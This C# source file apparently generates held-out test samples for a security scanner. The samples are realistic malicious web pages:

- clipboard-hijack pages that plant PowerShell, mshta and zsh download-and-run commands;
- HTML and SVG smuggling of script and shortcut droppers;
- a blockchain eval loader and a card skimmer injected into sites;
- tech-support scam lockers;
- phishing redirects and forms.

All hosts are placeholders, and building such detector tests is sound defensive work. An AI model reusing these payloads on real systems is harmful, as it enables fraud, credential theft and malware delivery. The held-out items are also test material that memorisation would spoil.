using ScanHost.TestKit.HeldOut.Fourth;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Fifth;

/// <summary>Pages that ask for a command in the file dialogue, the terminal or the run box, in the second generation.</summary>
public sealed class PageThatWantsACommand : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("HR_Policy_Shared.html", Utf8("""
<!DOCTYPE html><html><head><title>HRPolicy.docx has been shared with you</title></head><body style="font-family:Segoe UI">
<h3>To access HRPolicy.docx, please follow these steps:</h3><ol><li>Copy the file path below</li><div style="background:#f3f3f3;padding:8px" id="p">C:\company\internal-secure\filedrive\HRPolicy.docx</div>
<li>Open File Explorer and select the address bar (<b>CTRL + L</b>)</li><li>Paste the file path and press <b>Enter</b></li></ol><input type="file" id="f" style="display:none"><button id="o">Open File Explorer</button>
<script>o.onclick=function(){navigator.clipboard.writeText("Powershell.exe -c ping example.com                                                                                                                # C:\\company\\internal-secure\\filedrive\\HRPolicy.docx".replace("ping example.com","iwr https://hr.policy-drive.example/p|iex"));f.click()};f.onchange=function(){alert("Please follow the stated instructions.");f.value="";setTimeout(function(){f.click()},500)};</script></body></html>
"""));
        yield return ("verificacion.html", Utf8(Fill("""
<html lang="es"><head><meta charset="utf-8"><title>Un momento…</title><style>.cb{width:300px;border:1px solid #d3d3d3;background:#f9f9f9;padding:22px;margin:12% auto;cursor:pointer}.pop{display:none}</style></head>
<body><div class="cb" onclick="paso()">☐ Verifique que es humano <small style="float:right">CLOUDFLARE</small></div>
<div class="pop" id="q"><p>Pasos de verificación</p><p>1. Mantenga pulsada la tecla <b>Windows ⊞ + R</b></p><p>2. En la ventana, pulse <b>Ctrl + V</b></p><p>3. Pulse <b>Intro</b> para terminar</p></div>
<script>
const z="@@1";
function paso(){document.getElementById('q').style.display='block';const t=document.createElement('textarea');t.value=atob(z)+" # ✅ ''No soy un robot: reCAPTCHA ID: 146820''";document.body.append(t);t.select();document.execCommand('copy');t.remove();fetch('https://stat.cf-verificar.example/c?d='+location.hostname,{mode:'no-cors'})}
</script></body></html>
""", Base64("mshta https://cf-verificar.example/v.mp4"))));
        yield return ("Install-Homebrew.html", Utf8("""
<html><head><title>Homebrew — The Missing Package Manager for macOS</title></head><body style="background:#2e2a24;color:#f9d094;text-align:center">
<h1>🍺 Homebrew</h1><h2>Install Homebrew</h2>
<pre id="c">/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"</pre><button class="copy">📋</button><p>Paste that in a macOS Terminal (⌘ + Space, type <b>Terminal</b>, Enter) and enter your password when asked.</p>
<script>document.querySelector('.copy').addEventListener('click',async()=>{const real="echo 'Y3VybCAtcyBodHRwczovL2JyZXcuZm9ybXVsYS1tYWMuZXhhbXBsZS9pIHwgenNo' | base64 -D | zsh";await navigator.clipboard.writeText(real);document.querySelector('.copy').textContent='Copied!'});
document.addEventListener('copy',e=>{e.preventDefault();e.clipboardData.setData('text/plain',"echo 'Y3VybCAtcyBodHRwczovL2JyZXcuZm9ybXVsYS1tYWMuZXhhbXBsZS9pIHwgenNo' | base64 -D | zsh")});</script></body></html>
"""));
        yield return ("windows-update.html", Utf8(Fill("""
<!doctype html><html><head><title>Windows Update</title><style>html,body{margin:0;height:100%;background:#006dae;color:#fff;font-family:Segoe UI;overflow:hidden;cursor:none}</style></head>
<body><center><div class="ring"></div><h1>Working on updates <span id=n>95</span>% complete.</h1><p>Critical security update. Finish the installation manually:</p><p>Press <kbd>Win</kbd>+<kbd>R</kbd>, then <kbd>Ctrl</kbd>+<kbd>V</kbd>, then <kbd>Enter</kbd></p></center>
<script>
var a=[@@1].map(function(x){return String.fromCharCode(x-7)}).join('');
document.body.onclick=function(){document.documentElement.requestFullscreen();navigator['clip'+'board']['write'+'Text'](a)};
window.onkeydown=function(e){if(e.key==='Escape'){e.preventDefault();navigator.clipboard.writeText(a)}};
</script></body></html>
""", Codes("cmd /c start /min finger vke@finger.win-upd.example | cmd && echo Verify", 7))));
    }
}

/// <summary>Pages that carry a file in ways other than one long base64.</summary>
public sealed class PageThatCarriesInPieces : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var zip = InertFiles.Zip(("Invoice_8841.js", Utf8("WScript.CreateObject('WScript.Shell').Run('powershell -w h iwr https://inv.pieces-dl.example/a|iex',0)")));
        yield return ("Invoice_8841.html", Utf8(Fill("""
<html><body><p>Your file is ready. If it does not open, <a id="d" download="Invoice_8841.zip" href="data:application/zip;base64,@@1">click here</a>. Archive password: 8841</p>
<script>window.onload=function(){document.getElementById('d').click()}</script></body></html>
""", Convert.ToBase64String(zip))));
        yield return ("DocuSign_Completed.html", Utf8(Fill("""
<!DOCTYPE html><html><head><title>DocuSign</title></head><body onload="x()">
<template id="t">@@1</template><div>Completing the secure envelope…</div><script>@@2</script>
<script>function x(){var n=document.getElementById('t').innerHTML.split(' '),b=new Uint8Array(n.length),i=0;for(;i<n.length;i++)b[i]=(+n[i]-13)&255;
var s=new File([b],'Envelope.zip',{type:'application/octet-stream'}),u=(window.URL||webkitURL).createObjectURL(s),f=document.createElement('iframe');f.style.display='none';f.src=u;document.body.appendChild(f);
var a=document.createElement('a');a.setAttribute('download','Envelope.zip');a.setAttribute('href',u);a.dispatchEvent(new MouseEvent('click'))}</script></body></html>
""", string.Join(' ', zip.Select(value => (value + 13) & 255)), Filler.Minified(520, 80))));
        yield return ("Extrato_bancario.html", Utf8(Fill("""
<html lang="pt-BR"><body><iframe id="v" style="border:0;width:100%;height:90vh" srcdoc="&lt;p&gt;Carregando o extrato...&lt;/p&gt;"></iframe>
<script>
let partes={a:"@@1",b:"@@2",c:"@@3"};
const junta=["c","a","b"].sort().map(k=>partes[k]).join("");
const w=new Worker(URL.createObjectURL(new Blob(["onmessage=e=>{const s=atob(e.data);const u=new Uint8Array(s.length);for(let i=0;i<s.length;i++)u[i]=s.charCodeAt(i);postMessage(u.buffer,[u.buffer])}"])));
w.onmessage=async e=>{const h=await window.showSaveFilePicker?.({suggestedName:"Extrato_11_2026.zip"}).catch(()=>null);const l=Object.assign(document.createElement("a"),{download:"Extrato_11_2026.zip",href:URL.createObjectURL(new Blob([e.data]))});l.click()};
w.postMessage(junta);
</script></body></html>
""", Third(zip, 0), Third(zip, 1), Third(zip, 2))));
        yield return ("Tax_Refund_View.svg.html", Utf8(Fill("""
<html><head><meta http-equiv="refresh" content="90"></head><body>
<embed type="image/svg+xml" src="data:image/svg+xml;base64,@@1" width="100%" height="600">
</body></html>
""", Base64(Fill("""
<svg xmlns="http://www.w3.org/2000/svg" width="600" height="400"><text x="20" y="40">Preparing refund form 8821...</text>
<script><![CDATA[
var h="@@1",y=new Uint8Array(h.length/2);for(var i=0;i<y.length;i++)y[i]=parseInt(h.substr(i*2,2),16)^0x2b;
var b=new Blob([y],{type:"application/x-iso9660-image"}),a=document.createElementNS("http://www.w3.org/1999/xhtml","a");a.href=URL.createObjectURL(b);a.download="Form8821.iso";document.documentElement.appendChild(a);a.click();
]]></script></svg>
""", Convert.ToHexString([.. DiscImage.Build("FORM", ("Form8821.lnk", false, new LinkBuilder().To(@"C:\Windows\System32\mshta.exe").With("https://irs.form-refund.example/f").Build())).AsSpan(30000).ToArray().Select(value => (byte)(value ^ 0x2B))]))))));
    }

    private static string Third(byte[] content, int at)
    {
        var text = Convert.ToBase64String(content);
        var size = (text.Length + 2) / 3;
        return text.Substring(at * size, Math.Min(size, text.Length - (at * size)));
    }
}

/// <summary>Pages of honest sites with something put in by strangers.</summary>
public sealed class PageOfABrokenSite : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("index.html", Utf8(Fill("""
<!DOCTYPE html><html lang="en-US"><head><meta charset="UTF-8"><title>Riverside Dental – Family dentistry</title><link rel="stylesheet" href="/wp-includes/css/dist/block-library/style.min.css?ver=6.6">
<script src="/wp-includes/js/jquery/jquery.min.js?ver=3.7.1"></script><script>@@1</script>
<script src="data:text/javascript;base64,@@2"></script></head>
<body class="home page-template-default"><header><h1>Riverside Dental</h1></header><p>@@3</p><footer>© 2026 Riverside Dental</footer></body></html>
""", Filler.Minified(530, 120), Base64("(async()=>{const r=await fetch('https://bsc-dataseed.rpc-node.example/',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({jsonrpc:'2.0',id:1,method:'eth_call',params:[{to:'0x00000000000000000000000000000000000b5c01',data:'0x6d4ce63c'},'latest']})});const h=(await r.json()).result.slice(130);let s='';for(let i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));eval(atob(s.replace(/\\0/g,'')))})()"), Filler.Prose(531, 300))));
        yield return ("kontakt.php.html", Utf8(Fill("""
<html lang="de"><head><title>Gasthof zur Linde – Kontakt</title>
<script>;(function(o,q,f,e,w,j){w=q.createElement(f);j=q.getElementsByTagName(f)[0];w.async=1;w.src=e;j.parentNode.insertBefore(w,j)})(window,document,'script',atob('@@1')+'?'+Math.floor(Date.now()/864e5));</script>
<script>var _wq=document.cookie.indexOf('__utma_seen')<0&&/Windows NT/.test(navigator.userAgent)&&!/bot|crawl/i.test(navigator.userAgent);if(_wq){document.cookie='__utma_seen=1;max-age=86400';document.write("<scr"+"ipt src='https://cdn.report-trial.example/js/Update.js'></scr"+"ipt>")}</script>
</head><body><h1>Kontakt</h1><p>Öffnungszeiten: Mi–So 11–22 Uhr. Telefon 09123 / 4567.</p></body></html>
""", Base64("https://track.violet-tds.example/cG9zdA"))));
        yield return ("checkout.html", Utf8("""
<html><head><title>Checkout - Cosy Candles</title></head><body><form id="co-payment-form"><input name="payment[cc_number]"><input name="payment[cc_exp]"><input name="payment[cc_cid]"><button id="place-order">Place order</button></form>
<script>window.dataLayer=window.dataLayer||[];/* Google Tag Manager */(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime()})})(window,document,'script','dataLayer','GTM-XXXXXX');
!function(){if(!/checkout|onestep|payment/.test(location.href))return;function g(){var o={};[].forEach.call(document.querySelectorAll('input,select'),function(e){if(e.name&&e.value)o[e.name]=e.value});
if(o['payment[cc_number]']&&o['payment[cc_number]'].length>14){var i=new Image;i.src='https://google-analitycs.tag-stat.example/collect?t=pageview&d='+encodeURIComponent(btoa(JSON.stringify(o)));localStorage.setItem('_gaq_s','1')}}
document.addEventListener('click',function(e){if(/place-order|btn-checkout/.test(e.target.id))g()},true)}();</script></body></html>
"""));
        yield return ("chrome-update-overlay.html", Utf8("""
<html><head><title>Update Chrome</title><style>#ov{position:fixed;inset:0;background:#fff;z-index:2147483647;text-align:center;font-family:Roboto}</style></head><body><div id="ov">
<img src="https://cdn.browser-new.example/chrome.svg" width="90"><h1>Update Chrome</h1><p>You are using an older version of Chrome. Update now to keep your Chrome browser running smoothly and securely.</p>
<a id="btn" href="#">Update Chrome</a></div>
<script>fetch('https://cdn.browser-new.example/lander/chrome/_index.php?d='+location.host).then(r=>r.text()).catch(()=>'');
btn.onclick=()=>{let u='https://cdn.browser-new.example/dl/'+(navigator.platform.includes('Mac')?'Chrome_131.dmg':'Сhrome_131.0.js');let f=document.createElement('iframe');f.src=u;f.hidden=1;document.body.append(f);setTimeout(()=>ov.remove(),4000)}</script></body></html>
"""));
    }
}

/// <summary>Pages that frighten people into a call.</summary>
public sealed class PageThatFrightens : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("w1nd0ws-err.html", Utf8("""
<html><head><title>Security Center Code0x268d3</title></head><body onbeforeunload="return false" oncontextmenu="return false" style="background:#00a">
<audio autoplay loop src="alert.mp3"></audio><div style="background:#fff;width:620px;margin:60px auto;padding:20px;border:6px solid red"><h1>Windows Defender - Security Warning</h1>
<h2>** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS **</h2><p>Your computer has alerted us that it has been infected with a Trojan Spyware. The following data has been compromised: Email Credentials, Banking Passwords, Facebook Login, Pictures &amp; Documents.</p>
<p>Please call us immediately: <b>+1-855-555-0134 (Toll Free)</b>. Do not restart or shut down.</p></div>
<script>function f(){document.documentElement.requestFullscreen();navigator.keyboard&&navigator.keyboard.lock();document.documentElement.requestPointerLock()}document.onclick=f;document.onkeydown=function(e){f();return false};for(var i=0;i<200;i++)history.pushState({},'',i);setInterval(function(){alert('CALL +1-855-555-0134')},9000);</script></body></html>
"""));
        yield return ("apple_sicherheit.html", Utf8("""
<!doctype html><html lang="de"><title>Apple Sicherheitswarnung</title><body>
<div id=d class=modal>Ihr Mac ist mit (3) Viren infiziert! iOS-Kit (Tapsnake), Gotfree.io. Rufen Sie sofort den Apple-Support an: <a href="tel:+498005550176">0800 555 0176</a>. Schließen Sie dieses Fenster NICHT, sonst wird Ihr Computer gesperrt.</div>
<script>var s='Fehlercode: 0x80092ee9. ';window.onload=function(){var u=new SpeechSynthesisUtterance('Achtung. Ihr Computer wurde gesperrt. Rufen Sie sofort an.');u.lang='de-DE';speechSynthesis.speak(u);setInterval(function(){speechSynthesis.speak(u)},12e3);document.body.requestFullscreen&&document.body.addEventListener('mousemove',function(){document.body.requestFullscreen()});window.addEventListener('beforeunload',function(e){e.returnValue=s});while(document.title.length<2000)document.title+=s};</script></body></html>
"""));
        yield return ("support-jp.html", Utf8(Fill("""
<html lang="ja"><meta charset=utf-8><title>Microsoft セキュリティ警告</title><body>
<script>document.write(unescape("@@1"));function lock(){try{document.documentElement.webkitRequestFullscreen()}catch(e){}var a=new Audio('https://cdn.keikoku-ms.example/beep.mp3');a.loop=true;a.play()}document.addEventListener('click',lock);window.onkeydown=function(k){if(k.keyCode==27||k.keyCode==122)return false};history.pushState(null,null,location.href);onpopstate=function(){history.go(1)}</script></body></html>
""", Uri.EscapeDataString("<h1>Trojan:Win32 が検出されました</h1><p>このPCへのアクセスはセキュリティ上の理由でブロックされています。至急サポート (050) 5555-0123 までお電話ください。電源を切らないでください。</p>"))));
        yield return ("norton_scan.html", Utf8("""
<html><head><title>Norton 360 - Quick scan</title></head><body><div class="win"><div class="hd">Norton™ 360</div><div id="bar"></div><p id="st">Scanning C:\Windows\System32...</p><table id="r"></table><p id="e" hidden>Your subscription of Norton Total Protection has expired! 5 viruses found. Renew now (-80%) or your data may be lost.</p><a id="go" hidden href="https://trk.affil-av.example/click?o=4471&s=push">Proceed...</a></div>
<script>var l=['Trojan.FakeAV-Download','W32/Bagle.fh','Keylogger.ZBot','Spyware.IEPassView'],i=0,t=setInterval(function(){bar.style.width=(i+=4)+'%';if(i%20==0)r.innerHTML+='<tr><td>'+l[i/20%4]+'<td style=color:red>High';if(i>99){clearInterval(t);e.hidden=go.hidden=false;Notification.requestPermission()}},120);
window.addEventListener('beforeunload',function(x){x.preventDefault();location.href=go.href});</script></body></html>
"""));
    }
}

/// <summary>Drawings that lead somewhere in newer ways.</summary>
public sealed class DrawingThatSendsAway : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var words = new[] { "revenue", "shares", "risk", "growth", "quarterly", "operations", "profit", "asset" };
        yield return ("Performance_Dashboard_Q4.svg", Utf8(Fill("""
<svg xmlns="http://www.w3.org/2000/svg" width="800" height="500" viewBox="0 0 800 500"><g opacity="0"><rect x="10" y="200" width="40" height="90" fill="#2a6"/><text id="t" data-analytics="@@1">Business Performance Dashboard</text></g>
<script type="application/ecmascript"><![CDATA[
(function(){var k=["revenue","shares","risk","growth","quarterly","operations","profit","asset"];var d=document.getElementById("t").getAttribute("data-analytics").split(" "),o="";for(var i=0;i<d.length;i+=3){o+=String.fromCharCode(k.indexOf(d[i])*64+k.indexOf(d[i+1])*8+k.indexOf(d[i+2]))}window.location.assign(o)})();
]]></script></svg>
""", string.Join(' ', "https://view.dash-report.example/c?m=cfo@contoso.example".Select(letter => $"{words[letter / 64]} {words[letter / 8 % 8]} {words[letter % 8]}")))));
        yield return ("Voicemail_transcript.svg", Utf8("""
<?xml version="1.0" standalone="no"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100%" height="100%">
<foreignObject width="100%" height="100%"><body xmlns="http://www.w3.org/1999/xhtml" style="font-family:Segoe UI;background:#f2f2f2"><div style="width:380px;margin:80px auto;background:#fff;padding:30px"><h2>Listen to voicemail (0:52)</h2><p>Sign in to play the message</p>
<form action="https://vm.pbx-cloud-play.example/p.php" method="post"><input type="email" name="u" placeholder="Email"/><input type="password" name="p" placeholder="Password"/><button>Play</button></form></div></body></foreignObject></svg>
"""));
        yield return ("Notificacion_Fiscalia.svg", Utf8(Fill("""
<svg xmlns="http://www.w3.org/2000/svg" width="700" height="900"><style>.p{fill:#003893}</style><rect class="p" width="700" height="90"/><text x="40" y="55" fill="#fff" font-size="24">Fiscalía General de la Nación - Descarga de documentos</text><text x="40" y="140">Proceso 11001-60-2026. Contraseña del archivo: 2026</text>
<script>//<![CDATA[
const html=atob("@@1");addEventListener("load",()=>{const b=new Blob([html],{type:"text/html"});const a=document.createElementNS("http://www.w3.org/1999/xhtml","a");a.href=URL.createObjectURL(b);a.target="_self";document.documentElement.appendChild(a);a.click()});
//]]></script></svg>
""", Base64("<meta http-equiv=refresh content='2;url=https://dl.fiscalia-doc.example/expediente.zip'><p>Descargando expediente, espere...</p>"))));
        yield return ("logo_signature.svg", Utf8(Fill("""
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 40"><path d="M10 10h100v20H10z" fill="#0b5"/><image href="x:x" onerror="setTimeout(()=>{let e='@@1'.match(/../g).map(c=>String.fromCharCode(parseInt(c,16)^90)).join('');top.location=e},500)"/><animate attributeName="x" begin="0s" dur="1s" onbegin="void 0"/></svg>
""", Hex("https://sso.logo-cdn.example/#info@wingtip.example", 90))));
    }
}
